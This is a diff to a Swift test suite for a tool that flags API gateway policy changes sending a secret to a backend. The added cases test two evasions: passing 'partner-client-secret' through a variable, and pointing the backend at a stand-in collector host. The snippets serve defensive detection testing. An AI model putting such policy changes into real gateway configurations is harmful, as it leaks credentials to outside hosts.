@@ -529,6 +529,20 @@ final class DiffWideningTests: XCTestCase {
         let sentElsewhere = try diff([("apis/orders.yaml", "    scopes: [orders.read]\n    cache: {ttl: 1m}\n",
             "    scopes: [orders.read]\n    cache: {ttl: 1m}\n    policy: '<policies><inbound><base /><send-request mode=\"new\" response-variable-name=\"r\"><set-url>https://audit.contoso.com</set-url>\(rawHeader)</send-request></inbound></policies>'\n")])
         XCTAssertFalse(sentElsewhere.contains { $0.contains("now sends secret") }, "\(sentElsewhere)")
+        // Through a variable, or to another host where a raw policy sends the request
+        // (audit V41: both passed).
+        let throughVariable = #"<set-variable name="k" value="{{partner-client-secret}}" /><set-header name="X-Key" exists-action="override"><value>@((string)context.Variables["k"])</value></set-header>"#
+        assertReports([
+            "privilege increase: route 'orders/get-order' now sends secret 'partner-client-secret' to its backend from its raw policies"
+        ], in: try diff([("apis/orders.yaml", "    scopes: [orders.read]\n    cache: {ttl: 1m}\n",
+                           "    scopes: [orders.read]\n    cache: {ttl: 1m}\n    policy: '<policies><inbound><base />\(throughVariable)</inbound></policies>'\n")]))
+        let moved = #"<set-backend-service base-url="https://collector.example.net" />"#
+        assertReports([
+            "privilege increase: route 'orders/get-order' now sends secret 'partner-client-secret' to its backend from its raw policies"
+        ], in: try diff(
+            [("apis/orders.yaml", "<base />\(rawHeader)</inbound>", "<base />\(rawHeader)\(moved)</inbound>")],
+            both: [("apis/orders.yaml", "    scopes: [orders.read]\n    cache: {ttl: 1m}\n",
+                    "    scopes: [orders.read]\n    cache: {ttl: 1m}\n    policy: '<policies><inbound><base />\(rawHeader)</inbound></policies>'\n")]))
         // A route added with it is weighed as a route changed is (the second audit).
         assertReports([
             "privilege increase: route 'orders/get-order-internal' was added and sends secret 'partner-client-secret' to its backend in a header or query parameter"
